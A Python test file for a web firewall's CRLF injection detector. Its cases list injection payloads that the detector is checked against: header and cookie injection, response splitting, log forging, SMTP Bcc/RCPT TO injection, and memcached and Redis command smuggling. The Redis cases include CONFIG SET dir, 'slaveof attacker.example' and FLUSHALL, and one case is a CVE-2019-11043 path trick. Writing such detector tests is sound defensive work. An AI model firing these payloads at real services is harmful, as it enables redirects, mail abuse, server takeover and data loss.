"""CRLF injection detector: header injection, response splitting, log forging, header values."""

from __future__ import annotations

import pytest
from family_cases import family_suite

from hullguard.firewall.detectors import crlf
from hullguard.firewall.detectors.base import ScanContext

CTX = ScanContext()


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("x\r\nSet-Cookie: a=b", "HG-CRLF-001"),
        ("x\r\nLocation: https://attacker.example", "HG-CRLF-001"),
        ("x\u560a\u560dSet-Cookie: a=b", "HG-CRLF-001"),
        ("x\r\nHTTP/1.1 200 OK", "HG-CRLF-002"),
        ("x\r\n\r\n<script>alert(1)</script>", "HG-CRLF-002"),
        ("ok\n2024-05-01 12:00:00 ERROR forged", "HG-CRLF-003"),
        ("id\nSTART RequestId: 1", "HG-CRLF-003"),
        ("aaa\nGET /admin HTTP/1.1", "HG-CRLF-002"),  # a second request smuggled into one the function sends
        ("\r\nPOST /transfer HTTP/1.0", "HG-CRLF-002"),
        ("bar\r\nRemote-Addr: 127.0.0.1", "HG-CRLF-001"),
        # a mail header naming an address after a one-token form value (an e-mail or subject field)
        ("attacker@example.com\nBcc: victim@example.org", "HG-CRLF-005"),
        ("Hello\r\nCc:victim@example.org", "HG-CRLF-005"),
        ("news\r\nReply-To: \"Support\" <phish@example.net>", "HG-CRLF-005"),
        # SMTP envelope commands written into a conversation the function has with a mail server
        ("me@example.com\r\nRCPT TO:<victim@example.org>", "HG-CRLF-005"),
        ("\r\nDATA\r\nfoo\r\n.\r\nMAIL FROM: <a@example.com>\r\nRCPT TO: <b@example.com>\r\n", "HG-CRLF-005"),
        # a cache key that ends its command and stores (memcached: the data line as long as announced)
        # or reconfigures the server (Redis)
        ("session42\r\nset admin 0 3600 4\r\ntrue\r\n", "HG-CRLF-006"),
        ("k\r\ncas token 0 0 2 77\r\nok", "HG-CRLF-006"),
        ("k\r\nCONFIG SET dir /var/www/html\r\n", "HG-CRLF-006"),
        ("k\nslaveof attacker.example 6379", "HG-CRLF-006"),
        ("k\r\nFLUSHALL\r\n", "HG-CRLF-006"),
        # a header line in place of the value itself, any name (a scanner's own)
        ("\r\nProbe7: 1234", "HG-CRLF-001"),
        ("\u560d\u560aProbe7: 1234", "HG-CRLF-001"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = crlf.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


def test_a_storage_command_needs_the_data_line_it_announces() -> None:
    """A note's line of a word and three numbers is no memcached command: its next line is not as long
    as the last number says."""
    assert crlf.scan("Groceries\nadd eggs 1 2 12\nmilk", CTX) is None
    assert crlf.scan("Groceries\nadd eggs 1 2 4\nmilk", CTX) is not None  # (four characters: the framing)


def test_line_break_in_header_value() -> None:
    found = crlf.scan("Mozilla/5.0\nfoo", ScanContext(location="headers.User-Agent"))
    assert found is not None and found.rule_id == "HG-CRLF-004"
    assert crlf.scan("Mozilla/5.0\nfoo", ScanContext(location="body.comment")) is None


def test_line_break_in_the_request_path() -> None:
    php_value = "/index.php/PHP_VALUE\nsession.auto_start=1;;;"  # CVE-2019-11043's PATH_INFO trick
    for location in ("path", "rawPath", "pathParameters.proxy"):
        found = crlf.scan(php_value, ScanContext(location=location))
        assert found is not None and found.rule_id == "HG-CRLF-004", location
    assert crlf.scan("line one\nline two", ScanContext(location="body.path")) is None  # a body field so named
    assert crlf.scan("Dear team,\r\nget well soon", CTX) is None
    assert crlf.scan("Hello\nNote: see below", CTX) is None  # (a line of text first: no value opening with a header)


def test_cloudwatch_log_lines_are_not_forged_logs() -> None:
    ctx = ScanContext(location="awslogs.data.logEvents[0].message")
    assert crlf.scan("a\n2024-05-01 12:00:00 ERROR boom", ctx) is None


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(crlf, "crlf", ["\r\n", "\n", "\r\nX", "\nSet-Cookie:", "\r\n\r\n"])


@pytest.mark.parametrize(
    "payload",
    [
        "\nX-Made-Up-Name: 1",  # (X- is a strong header name already; kept as the baseline case)
        "\r\nHeader-Probe:value",  # a made-up hyphenated name, the value starting with the break
        " \nCustom-Header: injected",  # blanks before the break
        "abc123\r\nInjected-By-Scanner:1",  # one token before it, as a parameter value built for it
        "?\ninjected:1",  # any name with its value right after the colon
        "\u560a\u560dHeader-Probe:1",  # the characters old Node.js versions truncated to LF and CR
        "/ HTTP/1.1\r\nHost: internal.example\r\n\r\n",  # a path that ends the request line and adds headers
    ],
)
def test_made_up_headers_after_a_line_break_are_injections(payload: str) -> None:
    found = crlf.scan(payload, CTX)
    assert found is not None and found.rule_id in ("HG-CRLF-001", "HG-CRLF-002"), (payload, found)


@pytest.mark.parametrize(
    "value",
    [
        "Thanks for the quick reply.\nFollow-Up: next week",  # a line of prose before the name
        "Name: Ana\nPhone-Number: 555 0100",  # a note of "Name: value" lines
        "Hello\nNote: see the attached file",  # one word, then a name that is not hyphenated, a blank after
        "Hello\nhttps://example.com/path",  # a URL: no name before "://"
        # mail headers in a letter: prose before them, or no address on their line
        "Thanks for the reply.\nFrom: anna@example.com",
        "Thanks\nFrom: the whole team",
        "Dear Sir,\nplease mail from: a@example.com",
    ],
)
def test_lines_of_a_note_or_a_letter_are_not_injections(value: str) -> None:
    assert crlf.scan(value, CTX) is None
